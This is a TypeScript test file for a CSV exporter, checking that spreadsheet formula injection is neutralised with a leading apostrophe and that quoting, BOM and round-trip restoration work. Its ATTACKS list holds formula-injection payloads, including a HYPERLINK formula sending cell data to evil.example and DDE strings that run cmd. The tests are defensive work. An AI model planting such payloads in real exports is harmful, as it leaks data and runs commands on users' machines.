import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreNeutralisedCell, toCsv } from '../../../shared/export/csv';
import { toCsv as needsCsv } from '../../../renderer/features/needs/format';

const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1;"Klick")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

describe('the one CSV writer', () => {
  it.each(ATTACKS)('neutralises the formula %j with a leading apostrophe', (attack) => {
    expect(neutraliseCell(attack)).toBe(`'${attack}`);
    const line = toCsv(['Name'], [[attack]]).split('\r\n')[1]!;
    expect(line.replace(/^"/, '').startsWith("'")).toBe(true);
  });

  it('leaves plain numbers and ordinary text alone', () => {
    for (const text of ['-3,5', '+49', '1.234,5', 'Tagespflege Am Markt', 'E-Mail: a@b.de', '']) expect(neutraliseCell(text)).toBe(text);
    expect(toCsv(['Zahl'], [[-3.5]])).toBe('\uFEFFZahl\r\n-3,5\r\n');
  });

  it('quotes separators, quotes and line breaks, with BOM and CRLF', () => {
    expect(toCsv(['A', 'B'], [['x;y', 'er sagte "ja"\nneu'], [null, 'z']])).toBe('\uFEFFA;B\r\n"x;y";"er sagte ""ja""\nneu"\r\n;z\r\n');
  });

  it('restores exactly what it neutralised, so an export re-imports unchanged', () => {
    fc.assert(fc.property(fc.string(), (text) => restoreNeutralisedCell(neutraliseCell(text)) === text));
  });

  it('is used by the needs tables too', () => {
    expect(needsCsv(['Region', 'Wert'], [['=1+1', 12.345]])).toBe("\uFEFFRegion;Wert\r\n'=1+1;12,35\r\n");
  });
});
